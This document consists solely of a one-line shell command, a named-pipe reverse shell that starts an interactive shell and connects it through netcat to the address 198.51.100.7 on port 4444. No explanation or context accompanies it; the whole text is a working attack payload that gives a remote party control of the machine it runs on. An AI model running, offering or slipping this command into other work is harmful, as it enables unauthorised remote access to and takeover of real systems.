mkfifo /tmp/f; sh -i </tmp/f 2>&1 | nc 198.51.100.7 4444 >/tmp/f
